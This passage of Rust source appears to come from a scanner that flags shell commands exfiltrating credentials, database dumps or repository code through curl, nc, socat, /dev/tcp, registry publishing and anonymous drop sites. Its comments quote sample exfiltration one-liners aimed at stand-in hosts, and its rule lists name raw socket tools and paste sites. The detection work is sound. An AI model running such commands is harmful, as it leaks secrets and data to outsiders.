    COPIES.with(|c| *c.borrow_mut() = copies.clone());
    let mut hits = published_copies(script, &copies);
    hits.extend(analyze_with_copies(script, copies));
    COPIES.with(|c| c.borrow_mut().clear());
    hits.extend(database_dumps(script));
    hits
}

/// What a command publishes to a registry from the working tree (an image built from it, a
/// package made of it), named for a finding's detail.
fn publishes(cmd: &Command) -> Option<&'static str> {
    let args: Vec<&str> = cmd.args().iter().map(|a| a.text.as_str()).collect();
    let first = args.iter().find(|a| !a.starts_with('-')).copied();
    match cmd.name() {
        "docker" | "podman" | "nerdctl" | "buildah"
            if first == Some("push") || args.contains(&"--push") =>
        {
            Some("the pushed image")
        }
        "npm" | "pnpm" | "yarn" | "bun" if args.contains(&"publish") => {
            Some("the published package")
        }
        "twine" | "flit" | "poetry" | "hatch" | "uv" | "pdm"
            if args.contains(&"upload") || args.contains(&"publish") =>
        {
            Some("the uploaded package")
        }
        "gem" if first == Some("push") => Some("the pushed gem"),
        "cargo" if first == Some("publish") => Some("the published crate"),
        "helm" if first == Some("push") => Some("the pushed chart"),
        _ => None,
    }
}

/// A secret copied into the project (`cp ~/.aws/credentials ./docker/`, `cp .env
/// src/config/`) and then published with it (`docker push`, `npm publish`, `twine upload`):
/// the credential leaves inside the image or package, for anyone who pulls it.
fn published_copies(script: &Script, staged: &std::collections::HashSet<String>) -> Vec<Hit> {
    let mut inside: Vec<&String> = staged
        .iter()
        .filter(|c| !c.starts_with(['/', '~', '$']) && !c.contains(".."))
        .collect();
    if inside.is_empty() {
        return Vec::new();
    }
    inside.sort();
    script
        .commands
        .iter()
        .find_map(|cmd| {
            let what = publishes(cmd)?;
            // npm never packs a `.npmrc` (the usual CI step writes the token there to publish).
            let packed = |c: &&&String| {
                !(matches!(cmd.name(), "npm" | "pnpm" | "yarn" | "bun")
                    && (c.as_str() == ".npmrc" || c.ends_with("/.npmrc")))
            };
            let copy = inside.iter().find(packed)?;
            Some(vec![Hit {
                rule_id: "exfil.publish-secret",
                span: cmd.span,
                detail: Some(format!(
                    "{copy} holds a copy of a credential and leaves with {what}"
                )),
            }])
        })
        .unwrap_or_default()
}

/// `aws sqs send-message`, `aws sns publish`, `aws lambda invoke`, `aws logs put-log-events`,
/// `aws kinesis put-record`, `gcloud pubsub topics publish`, `gcloud functions call`: calls that
/// hand data to a queue, topic, function or log stream.
fn cloud_message_call(name: &str, args: &[Word]) -> bool {
    let words: Vec<&str> = args
        .iter()
        .map(|a| a.text.as_str())
        .filter(|a| !a.starts_with('-'))
        .collect();
    match name {
        "aws" => words.windows(2).any(|w| {
            matches!(
                (w[0], w[1]),
                ("sqs", "send-message" | "send-message-batch")
                    | ("sns", "publish" | "publish-batch")
                    | ("lambda", "invoke" | "invoke-async")
                    | ("logs", "put-log-events")
                    | ("kinesis", "put-record" | "put-records")
                    | ("firehose", "put-record" | "put-record-batch")
                    | ("events", "put-events")
                    | ("iot-data", "publish")
            )
        }),
        "gcloud" => {
            words.first() == Some(&"pubsub") && words.contains(&"publish")
                || words.first() == Some(&"functions") && words.contains(&"call")
        }
        _ => false,
    }
}

/// Programs whose output is a database's or a secrets store's contents, each with the words
/// (arguments, or its here-document) of which one makes it a dump; none listed: any use.
const DATA_DUMPS: &[(&str, &[&str])] = &[
    ("pg_dump", &[]),
    ("pg_dumpall", &[]),
    ("mysqldump", &[]),
    ("mariadb-dump", &[]),
    ("mongodump", &["--archive"]),
    ("mongoexport", &[]),
    (
        "redis-cli",
        &[
            "--rdb", "get", "mget", "hgetall", "keys", "scan", "--scan", "dump",
        ],
    ),
    ("sqlite3", &[".dump", "select"]),
    ("psql", &["select", "copy"]),
    ("mysql", &["select"]),
    ("mariadb", &["select"]),
    ("clickhouse-client", &["select"]),
    ("mongosh", &["find", "find("]),
    ("etcdctl", &["get", "snapshot"]),
    ("terraform", &["state", "output"]),
    ("tofu", &["state", "output"]),
    ("vault", &["read", "kv"]),
];

/// `pg_dump prod`, `sqlite3 app.db .dump`, `redis-cli --rdb -`: which dump the command makes.
fn data_dump(cmd: &Command) -> Option<String> {
    let (_, words) = DATA_DUMPS.iter().find(|(name, _)| *name == cmd.name())?;
    let tokens = |text: &str| -> bool {
        text.split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ';' | '='))
            .any(|t| words.iter().any(|w| t.eq_ignore_ascii_case(w)))
    };
    let dumps = words.is_empty()
        || cmd.args().iter().any(|a| tokens(&a.text))
        || cmd.stdin_text.as_ref().is_some_and(|w| tokens(&w.text));
    dumps.then(|| format!("`{}`", cmd.name()))
}

/// Files a dump command writes: its stdout redirection and its own output options
/// (`pg_dump -f F`, `mysqldump --result-file=F`, `mongodump --archive=F`, `redis-cli --rdb F`,
/// `etcdctl snapshot save F`).
fn dump_files(cmd: &Command) -> Vec<String> {
    let mut files: Vec<String> = cmd
        .redirects
        .iter()
        .filter(|r| r.writes_stdout())
        .map(|r| r.target.text.clone())
        .collect();
    let args = cmd.args();
    for (i, a) in args.iter().enumerate() {
        let t = a.text.as_str();
        for long in ["--file=", "--result-file=", "--archive="] {
            files.extend(t.strip_prefix(long).map(str::to_string));
        }
        if matches!(
            t,
            "-f" | "--file" | "-r" | "--result-file" | "--rdb" | "save"
        ) {
            files.extend(args.get(i + 1).map(|w| w.text.clone()));
        }
    }
    files.retain(|f| f != "-");
    files
}

/// Database contents posted to a web endpoint or written to a raw socket: a dump piped (through
/// compressors, encoders, ciphers) into curl/wget/nc/socat, written to `/dev/tcp`, or saved to a
/// file that such a client then uploads. Copies to one's own machines (ssh, scp, rsync, cloud
/// storage, a loopback URL) are how backups are made and are left alone.
fn database_dumps(script: &Script) -> Vec<Hit> {
    let mut hits = Vec::new();
    let mut dumped: Vec<(String, String)> = Vec::new();
    for cmd in &script.commands {
        if let Some(what) = data_dump(cmd) {
            for r in cmd.redirects.iter().filter(|r| r.writes_stdout()) {
                if r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/")
                {
                    hits.push(dump_hit(cmd.span, &what, &format!("`{}`", r.target.text)));
                }
            }
            dumped.extend(dump_files(cmd).into_iter().map(|f| (f, what.clone())));
        }
        let web = matches!(
            cmd.name(),
            "curl" | "wget" | "wget2" | "http" | "https" | "xh" | "xhs" | "curlie"
        );
        // socat's network addresses: `TCP:host:port`, `OPENSSL:host:port`, `UDP4:…`.
        let socat_host = (cmd.name() == "socat")
            .then(|| {
                cmd.args().iter().find_map(|a| {
                    let (kind, rest) = a.text.split_once(':')?;
                    let kind = kind.to_ascii_lowercase();
                    let network = ["tcp", "udp", "openssl", "ssl"]
                        .iter()
                        .any(|k| kind.starts_with(k));
                    network.then(|| rest.split(':').next().unwrap_or(rest).to_string())
                })
            })
            .flatten();
        if socat_host.as_deref().is_some_and(is_loopback) {
            continue;
        }
        let socket = raw_socket_host(cmd).is_some() || socat_host.is_some();
        if !(web || socket) {
            continue;
        }
        let Some(sink) = sink_args(cmd) else {
            continue;
        };
        let local = cmd
            .args()
            .iter()
            .filter_map(|a| url_host(&a.text))
            .any(|h| is_loopback(&h));
        if local {
            continue;
        }
        let piped = (sink.reads_stdin || socket)
            .then(|| {
                let pos = cmd.pipes.last()?;
                (0..pos.stage)
                    .flat_map(|s| script.stage(pos.pipeline, s))
                    .find_map(data_dump)
            })
            .flatten();
        let uploaded = || {
            sink.files.iter().find_map(|f| {
                dumped
                    .iter()
                    .find(|(d, _)| crate::shell::ir::file_key(d) == crate::shell::ir::file_key(f))
                    .map(|(d, what)| format!("{what} output saved to {d}"))
            })
        };
        if let Some(what) = piped.or_else(uploaded) {
            let span = if cmd.pipes.is_empty() {
                cmd.span
            } else {
                pipeline_span(script, cmd)
            };
            hits.push(dump_hit(span, &what, &sink.what));
        }
    }
    hits
}

fn dump_hit(span: crate::findings::Span, what: &str, sink: &str) -> Hit {
    Hit {
        rule_id: "exfil.database-dump",
        span,
        detail: Some(format!(
            "database contents from {what} are sent out by {sink}"
        )),
    }
}

thread_local! {
    /// Files this input filled with a secret (see [`secret_copies`]), while one script is
    /// analysed: reading one of them is reading the secret (`cp ~/.aws/credentials /tmp/c; nc
    /// host 9 < /tmp/c`).
    static COPIES: std::cell::RefCell<std::collections::HashSet<String>> =
        std::cell::RefCell::new(std::collections::HashSet::new());
}

fn analyze_with_copies(script: &Script, copies: std::collections::HashSet<String>) -> Vec<Hit> {
    let mut hits: Vec<Hit> = script
        .effects
        .iter()
        .filter(|e| e.kind == crate::shell::ir::EffectKind::SecretToNetwork)
        .map(|e| Hit {
            rule_id: Secret::File.rule(),
            span: e.span,
            detail: Some(format!(
                "{} sends the environment or a credential file over the network",
                e.detail
            )),
        })
        .chain(
            script
                .effects
                .iter()
                .filter(|e| {
                    matches!(
                        e.kind,
                        crate::shell::ir::EffectKind::SecretVariableToNetwork
                            | crate::shell::ir::EffectKind::VendorSecretElsewhere
                    )
                })
                .map(|e| Hit {
                    rule_id: if e.kind == crate::shell::ir::EffectKind::VendorSecretElsewhere {
                        VENDOR_KEY_ELSEWHERE
                    } else {
                        "exfil.secret-variable"
                    },
                    span: e.span,
                    detail: Some(format!(
                        "{} sends a credential variable to a host that is not its vendor's",
                        e.detail
                    )),
                }),
        )
        .collect();
    let mut upstream = Upstream::default();
    // A credential copied into a working tree and then pushed (`cp ~/.aws/credentials drop/ &&
    // cd drop && git add . && git commit … && git push`).
    if !copies.is_empty() {
        let staged = script.commands.iter().any(|c| {
            c.name() == "git"
                && c.args()
                    .iter()
                    .any(|a| matches!(a.text.as_str(), "add" | "-a" | "-am" | "--all"))
        });
        if let Some(push) = script.commands.iter().find(|c| {
            c.name() == "git"
                && c.args()
                    .iter()
                    .find(|a| !a.text.starts_with('-'))
                    .is_some_and(|a| a.text == "push")
        }) {
            if staged {
                let mut copied: Vec<&String> = copies.iter().collect();
                copied.sort();
                hits.push(Hit {
                    rule_id: Secret::File.rule(),
                    span: push.span,
                    detail: Some(format!(
                        "a copy of a credential file ({}) is committed and pushed by `git push`",
                        copied.first().map(|s| s.as_str()).unwrap_or("")
                    )),
                });
            }
        }
    }
    // Interpreter code that sends what it reads on stdin, fed a secret
    // (`cat ~/.config/gh/hosts.yml | python3 -c "…urlopen(url, sys.stdin.read())"`).
    for effect in script
        .effects
        .iter()
        .filter(|e| e.kind == crate::shell::ir::EffectKind::StdinToNetwork)
    {
        let fed = script.commands.iter().enumerate().find_map(|(idx, cmd)| {
            if cmd.span.0 > effect.span.0 || cmd.span.1 < effect.span.1 || cmd.via.is_some() {
                return None;
            }
            cmd.redirects
                .iter()
                .find(|r| r.op == "<" && secret_at(cmd, &r.target.text))
                .map(|r| (Secret::File, r.target.text.clone()))
                .or_else(|| upstream.before(script, idx, cmd))
                .filter(|(kind, _)| *kind > Secret::Variable)
                .map(|found| (found, pipeline_span(script, cmd)))
        });
        if let Some(((kind, source), span)) = fed {
            hits.push(Hit {
                rule_id: kind.rule(),
                span,
                detail: Some(format!(
                    "{source} is piped into {}, which sends its input over the network",
                    effect.detail
                )),
            });
        }
    }
    // `read -r -d '' K < ~/.ssh/id_rsa`, `mapfile -t L < ~/.aws/credentials`: variables that
    // hold a secret file's text.
    let read_vars: Vec<(String, String)> = script
        .commands
        .iter()
        .filter(|c| matches!(c.name(), "read" | "mapfile" | "readarray"))
        .filter_map(|c| {
            let file = c
                .redirects
                .iter()
                .find(|r| r.op == "<" && secret_at(c, &r.target.text))?;
            let name = c
                .args()
                .iter()
                .rev()
                .find(|a| {
                    !a.text.starts_with('-')
                        && a.text
                            .chars()
                            .all(|ch| ch.is_ascii_alphanumeric() || ch == '_')
                })
                .map(|a| a.text.clone())
                .unwrap_or_else(|| {
                    if c.name() == "read" {
                        "REPLY".into()
                    } else {
                        "MAPFILE".into()
                    }
                });
            Some((name, file.target.text.clone()))
        })
        .collect();
    for (idx, cmd) in script.commands.iter().enumerate() {
        let Some(mut sink) = sink_args(cmd) else {
            continue;
        };
        if let Some(text) = sink
            .config
            .as_deref()
            .and_then(|c| config_text(script, cmd, c))
        {
            for (opt, value) in curl_config_options(&text) {
                if CURL_DATA.contains(&opt.as_str()) || matches!(opt.as_str(), "-H" | "--header") {
                    note_upload(&mut sink, &opt, &value);
                }
            }
        }
        let mut found: Option<(Secret, String)> = None;
        let mut keep = |f: Option<(Secret, String)>| {
            if let Some(f) = f {
                if found.as_ref().is_none_or(|b| f.0 > b.0) {
                    found = Some(f);
                }
            }
        };
        keep(
            sink.files
                .iter()
                .find(|f| secret_at(cmd, f))
                .map(|f| (Secret::File, f.clone())),
        );
        keep(read_vars.iter().find_map(|(var, file)| {
            let named = |w: &&Word| {
                w.text.contains(&format!("${var}")) || w.text.contains(&format!("${{{var}"))
            };
            (sink.payload.iter().any(named) || sink.meta.iter().any(named))
                .then(|| (Secret::File, format!("{file} (read into ${var})")))
        }));
        // A secret file's content in a header or cookie (a printed token there is the normal
        // way to call an API).
        keep(
            words_source(
                script,
                &sink.meta.iter().map(|w| (*w).clone()).collect::<Vec<_>>(),
            )
            .filter(|(kind, what)| {
                *kind > Secret::Variable
                    && !(what.ends_with("(prints credentials)")
                        && printed_for_its_vendor(what, &sink.payload))
                    && !(what.contains("serviceaccount/token") && to_cluster_api(&sink.payload))
            }),
        );
        // A well-known service's key in a header sent to some other host
        // (`-H "Authorization: Bearer $OPENAI_API_KEY" https://x.example/v1/chat`).
        keep(
            sink.meta
                .iter()
                .find_map(|w| secret_var(&w.text))
                .filter(|var| crate::text::vendor::names_known_vendor(var))
                .filter(|var| {
                    let hosts: Vec<String> = sink
                        .payload
                        .iter()
                        .filter_map(|w| url_host(&w.text))
                        .collect();
                    hosts.iter().any(|h| !is_loopback(h))
                        && !hosts
                            .iter()
                            .any(|h| crate::text::vendor::vendor_of_variable(var, h))
                })
                .map(|var| (Secret::Variable, format!("${var}"))),
        );
        // `{}` filled in by the wrapper: `xargs -a ~/.git-credentials … {}`.
        if let Some(wrapper) = cmd.wrapped_by.and_then(|w| script.commands.get(w)) {
            // xargs always puts what it reads into the command line: appended, or in place of
            // its `-I` placeholder (which the walker may already have filled in).
            let fills = wrapper.name() == "xargs"
                || sink.files.iter().any(|f| f.contains("{}"))
                || sink.payload.iter().any(|w| w.text.contains("{}"));
            if fills {
                keep(placeholder_source(wrapper).map(|what| (Secret::File, what)));
                // `find ~/.ssh -type f | xargs -I% curl -F f=@% …`: what xargs reads names them.
                // A token filled only into a header and sent to its own service is an API call
                // (`gh auth token | xargs -I{} curl -H 'Authorization: Bearer {}' api.github.com`).
                let header_only = !sink.payload.iter().any(|w| w.text.contains("{}"))
                    && sink.meta.iter().any(|w| w.text.contains("{}"));
                if let Some(w) = cmd.wrapped_by {
                    keep(upstream.before(script, w, wrapper).filter(|(_, what)| {
                        !(header_only
                            && what.ends_with("(prints credentials)")
                            && printed_for_its_vendor(what, &sink.payload))
                    }));
                }
            }
        }
        if sink.reads_stdin {
            if let Some(text) = &cmd.stdin_text {
                keep(words_source(script, std::slice::from_ref(text)));
            }
        }
        keep(words_source(
            script,
            &sink
                .payload
                .iter()
                .map(|w| (*w).clone())
                .collect::<Vec<_>>(),
        ));
        keep(
            cmd.redirects
                .iter()
                .find(|r| r.op == "<" && secret_at(cmd, &r.target.text))
                .map(|r| (Secret::File, r.target.text.clone())),
        );
        // `curl -F f=@- URL < <(env)`: stdin is what a process substitution prints.
        if !ignores_stdin(cmd) {
            for r in cmd.redirects.iter().filter(|r| r.op == "<") {
                for &sub in &r.target.subs {
                    for c in script.commands_within(sub) {
                        keep(command_source(script, c));
                    }
                }
            }
        }
        // `cat ~/.aws/credentials | tee >(curl -d @- URL)`, `cat KEY > >(nc host 9)`: a sender
        // inside an output process substitution reads what the command naming it writes there.
        if !ignores_stdin(cmd) {
            for &sub in &cmd.within {
                if script.substitutions[sub].kind != crate::shell::ir::SubstKind::ProcessOut {
                    continue;
                }
                // Every command writing there (after `exec > >(nc …)`, each later command).
                let writers = script.commands.iter().enumerate().filter(|(_, w)| {
                    !w.within.contains(&sub)
                        && (w.argv.iter().any(|a| a.subs.contains(&sub))
                            || w.redirects.iter().any(|r| r.target.subs.contains(&sub)))
                });
                for (widx, writer) in writers {
                    keep(command_source(script, writer));
                    keep(
                        writer
                            .redirects
                            .iter()
                            .find(|r| r.op == "<" && secret_at(writer, &r.target.text))
                            .map(|r| (Secret::File, r.target.text.clone())),
                    );
                    keep(upstream.before(script, widx, writer));
                }
            }
        }
        // Under xargs the piped text becomes arguments (judged with the wrapper above) — unless
        // the command sits in a pipeline of its own inside the code xargs runs (`xargs sh -c
        // 'env | curl -d @- …'`), whose stdin is that pipeline's.
        let under_xargs = cmd
            .wrapped_by
            .and_then(|w| script.commands.get(w))
            .is_some_and(|w| w.name() == "xargs" && w.pipes.last() == cmd.pipes.last());
        if (sink.reads_stdin || !cmd.pipes.is_empty() && cmd.stdin_text.is_none())
            && !ignores_stdin(cmd)
            && !under_xargs
        {
            keep(upstream.before(script, idx, cmd));
        }
        // A vendor's own key sent to the vendor (`?key=$GOOGLE_MAPS_KEY` to googleapis.com), a
        // client secret sent to an OAuth token endpoint (its only use), anything to loopback.
        let hosts: Vec<String> = sink
            .payload
            .iter()
            .filter_map(|w| url_host(&w.text))
            .collect();
        let only_loopback = !hosts.is_empty() && hosts.iter().all(|h| is_loopback(h));
        // A token file a local service is called with (`-H "X-Vault-Token: $(cat
        // ~/.vault-token)" http://127.0.0.1:8200/…`); keys and cloud credentials stay flagged.
        if let Some((Secret::File, path)) = &found {
            let key_material = [
                ".ssh",
                ".aws",
                ".gnupg",
                "id_rsa",
                "id_ed25519",
                ".kube",
                "credentials",
                ".pem",
                ".key",
            ]
            .iter()
            .any(|k| path.contains(k));
            if only_loopback && !key_material {
                found = None;
            }
        }
        if let Some((Secret::Variable, var)) = &found {
            let token_endpoint = sink.payload.iter().any(|w| {
                let t = w.text.to_ascii_lowercase();
                t.contains("://")
                    && (t.contains("/oauth2/")
                        || t.contains("/oauth/token")
                        || t.contains("openid-connect/token")
                        || t.ends_with("/token"))
            });
            if hosts
                .iter()
                .any(|host| crate::text::vendor::vendor_of_variable(var, host))
                || only_loopback
                || token_endpoint
            {
                found = None;
            }
        }
        // The repository's code uploaded to an anonymous paste or file-drop site (other uploads
        // there, a build log or a test payload, are everyday use).
        if found.is_none() {
            if let Some(site) = uploads_to_drop_site(cmd, &sink) {
                if let Some(what) = repository_source(script, idx, cmd, &sink) {
                    hits.push(Hit {
                        rule_id: "exfil.repository",
                        span: pipeline_span(script, cmd),
                        detail: Some(format!(
                            "{what} is uploaded to {site}, an anonymous file-drop site"
                        )),
                    });
                }
            }
        }
        if let Some((kind, source)) = found {
            // A well-known service's key sent to another host, or any credential variable put
            // on a raw socket or into a DNS name: no API is called that way.
            let var = source.trim_start_matches('$');
            let raw = matches!(
                cmd.name(),
                "nc" | "ncat"
                    | "netcat"
                    | "socat"
                    | "telnet"
                    | "dig"
                    | "host"
                    | "nslookup"
                    | "drill"
            );
            // An `Authorization:` header to another host may be a gateway that forwards it, and
            // GitLab's own `PRIVATE-TOKEN:`/`JOB-TOKEN:` headers name a self-hosted GitLab.
            // ... unless the host dresses up as the vendor (`api.openai.com.evil.example`).
            let imitated = sink
                .payload
                .iter()
                .filter_map(|w| url_host(&w.text))
                .any(|h| crate::text::vendor::imitates_vendor(var, &h));
            let in_authorization = !imitated
                && sink.meta.iter().any(|w| {
                    let header = w.text.to_ascii_lowercase();
                    w.text.contains(var)
                        && ["authorization", "private-token:", "job-token:"]
                            .iter()
                            .any(|h| header.contains(h))
                });
            let foreign = kind == Secret::Variable
                && !in_authorization
                && (raw
                    || crate::text::vendor::names_known_vendor(var) && {
                        let hosts: Vec<String> = sink
                            .payload
                            .iter()
                            .filter_map(|w| url_host(&w.text))
                            .collect();
                        !hosts.is_empty()
                            && !hosts.iter().any(|h| is_loopback(h))
                            && !hosts
                                .iter()
                                .any(|h| crate::text::vendor::vendor_of_variable(var, h))
                    });
            hits.push(Hit {
                rule_id: if foreign {
                    VENDOR_KEY_ELSEWHERE
                } else {
                    kind.rule()
                },
                span: pipeline_span(script, cmd),
                detail: Some(format!(
                    "{source} is sent over the network by {}",
                    sink.what
                )),
            });
        }
    }
    hits
}

/// Anonymous paste bins and file-drop services: what is uploaded there is public to anyone with
/// the link, and nobody's account is behind it.
const DROP_SITES: &[&str] = &[
    "0x0.st",
    "transfer.sh",
    "file.io",
    "paste.rs",
    "termbin.com",
    "ix.io",
    "sprunge.us",
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "dpaste.org",
    "dpaste.com",
    "catbox.moe",
    "bashupload.com",
    "temp.sh",
    "oshi.at",
    "gofile.io",
    "tmpfiles.org",
    "filebin.net",
    "keep.sh",
    "webhook.site",
    "requestbin.com",
    "pipedream.net",
    "rentry.co",
    "clbin.com",
    "uguu.se",
    "pixeldrain.com",
    "p.ip.fi",
    "paste.c-net.org",
    "pastes.dev",
    "send.vis.ee",
    "envs.sh",
];

/// The host a raw socket tool (`nc`, `ncat`, `netcat`, `socat`, `telnet`, `cryptcat`) connects
/// to: its first operand that is neither an option nor an address with a port or type.
fn raw_socket_host(cmd: &Command) -> Option<&Word> {
    matches!(
        cmd.name(),
        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "cryptcat"
    )
    .then(|| {
        cmd.args()
            .iter()
            .find(|a| !a.text.starts_with('-') && !a.text.contains(':'))
    })
    .flatten()
}

/// Whether `host` is an anonymous paste bin or file-drop service (or a subdomain of one).
pub(crate) fn is_drop_site(host: &str) -> bool {
    DROP_SITES
        .iter()
        .any(|d| host == *d || host.ends_with(&format!(".{d}")))
}

/// The drop site or raw socket an upload goes to, when the command sends data (a file, its
/// stdin or a body).
fn uploads_to_drop_site(cmd: &Command, sink: &SinkArgs) -> Option<String> {
    let drop = sink
        .payload
        .iter()
        .filter_map(|w| url_host(&w.text))
        .find(|h| is_drop_site(h));
    // A raw socket (`git archive HEAD | nc 198.51.100.5 9000`) is no way to share code either;
    // one to the user's own network (`nc logstash.internal 5000`) is how logs and metrics go.
    let raw = raw_socket_host(cmd)
        .filter(|h| !to_own_machine(&h.text))
        .map(|h| format!("a raw socket to {}", h.text));
    let site = drop.or(raw)?;
    let piped = !cmd.pipes.is_empty() && cmd.stdin_text.is_none() && !ignores_stdin(cmd);
    let sends_body = cmd.args().iter().any(|a| {
        let opt = a.text.split('=').next().unwrap_or("");
        CURL_DATA.contains(&opt)
    });
    (!sink.files.is_empty() || piped || sends_body || cmd.stdin_text.is_some()).then_some(site)
}

/// What of the repository reaches an upload: piped from `git archive|bundle|diff|log|show|
/// format-patch`, a `tar`/`zip` of the working tree or `cat` of its files, or a file one of those
/// wrote earlier in the input (`git bundle create /tmp/r.bundle --all && curl -T /tmp/r.bundle …`).
fn repository_source(
    script: &Script,
    idx: usize,
    cmd: &Command,
    sink: &SinkArgs,
) -> Option<String> {
    let packs_tree = |c: &Command| -> Option<String> {
        let args: Vec<&str> = c.args().iter().map(|a| a.text.as_str()).collect();
        match c.name() {
            "git"
                if matches!(
                    args.first(),
                    Some(
                        &("archive"
                            | "bundle"
                            | "diff"
                            | "log"
                            | "show"
                            | "format-patch"
                            | "ls-files")
                    )
                ) =>
            {
                Some(format!("`git {}`", args[0]))
            }
            "tar" | "zip" | "7z" | "gtar" | "bsdtar"
                if args
                    .iter()
                    .any(|a| matches!(*a, "." | "./" | "*" | "src" | "./src")) =>
            {
                Some(format!("a `{}` of the working tree", c.name()))
            }
            "cat" if args.iter().any(|a| !a.starts_with('-')) => {
                Some("source files (`cat`)".to_string())
            }
            _ => None,
        }
    };
    // Piped into the upload.
    if let Some(pos) = cmd.pipes.last() {
        for stage in 0..pos.stage {
            if let Some(found) = script.stage(pos.pipeline, stage).find_map(packs_tree) {
                return Some(found);
            }
        }
    }
    // A file written earlier by one of them.
    script.commands[..idx].iter().find_map(|c| {
        let what = packs_tree(c)?;
        let wrote = c.args().iter().any(|a| {
            sink.files
                .iter()
                .any(|f| !f.is_empty() && (a.text == *f || a.text.ends_with(&format!("/{f}"))))
        }) || c
            .redirects
            .iter()
            .any(|r| sink.files.contains(&r.target.text));
        wrote.then_some(what)
    })
}

/// curl and wget read stdin only when told to (`-d @-`, `-T -`, `--post-file=/dev/stdin`,
/// `-K -`): piping into them otherwise sends nothing — unless a variable in their arguments
/// carries what was piped (`… | while read h; do curl x.example/$h; done`).
fn ignores_stdin(cmd: &Command) -> bool {
    // `gh auth token | docker login ghcr.io -u "$(…)" --password-stdin`: the password goes to
    // the registry named; only a name or address computed on the line is judged.
    if matches!(cmd.name(), "docker" | "podman" | "helm" | "mosh")
        && cmd.args().iter().any(|a| a.text == "--password-stdin")
    {
        return true;
    }
    matches!(cmd.name(), "curl" | "wget")
        && !cmd.args().iter().any(|a| {
            let t = a.text.as_str();
            a.dynamic
                || t.contains('$')
                || t == "-"
                || t.ends_with("@-")
                || t.ends_with("<-")
                || t.contains("/dev/stdin")
                || t.ends_with("=-")
                // `-sT-`, `-T.`: an upload of stdin glued to its option.
                || (t.starts_with('-')
                    && !t.starts_with("--")
                    && (t.ends_with("T-") || t.ends_with("T.")))
        })
}

/// A request to the in-cluster Kubernetes API (where a pod's service-account token belongs).
fn to_cluster_api(payload: &[&Word]) -> bool {
    payload.iter().any(|w| {
        url_host(&w.text).is_some_and(|h| h.starts_with("kubernetes.default"))
            || w.text.contains("$KUBERNETES_SERVICE_HOST")
    })
}

/// A loopback host (a local proxy or model server holds the key legitimately).
pub(crate) fn is_loopback(host: &str) -> bool {
    // A real 127.x.y.z address, not a name that starts like one (`127.0.0.1.nip.io.evil.io`).
    matches!(host, "localhost" | "[::1]")
        || host
            .parse::<std::net::Ipv4Addr>()
            .is_ok_and(|ip| ip.is_loopback())
}

/// An ssh-style target (`user@host:path`, `host`) naming the user's own machines: loopback, a
/// short name from `~/.ssh/config` or the local network (`app01`, `web1`), or a name under a
/// private suffix (`db.internal`, `nas.lan`, `pi.local`). Addresses and public names are not.
pub(crate) fn to_own_machine(target: &str) -> bool {
    let host = target.split_once("://").map_or(target, |x| x.1);
    let host = host.rsplit_once('@').map_or(host, |x| x.1);
    let host = host
        .split([':', '/'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    if host.is_empty() || host.starts_with('$') {
        return false;
    }
    let short = !host.contains('.')
        && !host.bytes().all(|b| b.is_ascii_digit())
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
    is_loopback(&host)
        || short
        || [
            ".internal",
            ".lan",
            ".local",
            ".localdomain",
            ".home.arpa",
            ".corp",
            ".intranet",
        ]
        .iter()
        .any(|s| host.ends_with(s))
}

/// What `xargs` fills `{}` with when that is a secret: the lines of a credential file
/// (`xargs -a FILE`, `xargs --arg-file=FILE`). (`find -exec … {}` is resolved by the walker.)
fn placeholder_source(wrapper: &Command) -> Option<String> {
    if wrapper.name() != "xargs" {
        return None;
    }
    let args = wrapper.args();
    args.iter().enumerate().find_map(|(i, a)| {
        let file = match a.text.as_str() {
            "-a" | "--arg-file" => args.get(i + 1).map(|w| w.text.as_str()),
            t => t.strip_prefix("--arg-file="),
        }?;
        is_secret_path(file).then(|| file.to_string())
    })
}

/// The host of a URL-looking word.
pub(crate) fn url_host(text: &str) -> Option<String> {
    // httpie's `:8000/api` is localhost.
    if text.starts_with(':') && text[1..].starts_with(|c: char| c.is_ascii_digit() || c == '/') {
        return Some("localhost".into());
    }
    let rest = text.split_once("://").map(|x| x.1).unwrap_or(text);
    let host = rest
        .split(['/', '?', '#', ':'])
        .next()?
        .to_ascii_lowercase();
    // A file argument (`@req.json`, `./body.json`) is not a host.
    let hostlike = host
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b'[' | b']'))
        && !host.starts_with(['.', '-']);
    ((host.contains('.') || host == "localhost") && hostlike).then_some(host)
}

/// The archive file a `tar`/`zip`/`7z` command writes when it packs a secret or the home
/// directory.
fn archive_of_secrets(cmd: &Command, staged: &std::collections::HashSet<String>) -> Option<String> {
    let args = cmd.args();
    let packs_secret = args
        .iter()
        .any(|a| secret_at(cmd, &a.text) || is_home_dir(&a.text) || holds_copy(staged, &a.text))
        || archive_member_paths(cmd)
            .iter()
            .any(|p| is_secret_path(p) || holds_host_keys(p) || holds_copy(staged, p));
    if !packs_secret {
        return None;
    }
    match cmd.name() {
        "tar" | "gtar" | "bsdtar" => args.iter().enumerate().find_map(|(i, a)| {
            let t = a.text.as_str();
            if let Some(v) = t.strip_prefix("--file=") {
                return Some(v.to_string());
            }
            let bundled = !t.starts_with("--") && t.trim_start_matches('-').ends_with('f');
            let is_flags =
                t.starts_with('-') || (i == 0 && t.chars().all(|c| c.is_ascii_alphabetic()));
            (is_flags && (bundled || t == "--file"))
                .then(|| args.get(i + 1).map(|w| w.text.clone()))
                .flatten()
        }),
        // The first operand after the options, whose values (`-P PASSWORD`, `-qP pw`) are skipped.
        "zip" => {
            let mut i = 0;
            while let Some(a) = args.get(i) {
                let t = a.text.as_str();
                if !t.starts_with('-') {
                    return Some(t.to_string());
                }
                let valued =
                    !t.starts_with("--") && t.ends_with(['P', 'b', 't', 'n', 'Z', 's', 'O']);
                i += if valued { 2 } else { 1 };
            }
            None
        }
        "7z" | "7za" | "7zz" => args
            .iter()
            .filter(|a| !a.text.starts_with('-'))
            .nth(1)
            .map(|a| a.text.clone()),
        _ => None,
    }
}

/// Is `path` one of the staged copies, or a directory holding one (`cp ~/.ssh/id_* /tmp/.c/`
/// then `tar czf x.tgz /tmp/.c`)?
fn holds_copy(staged: &std::collections::HashSet<String>, path: &str) -> bool {
    let p = path.trim_end_matches('/');
    let p = p.strip_prefix("./").unwrap_or(p);
    if p.is_empty() || p == "." && staged.is_empty() {
        return false;
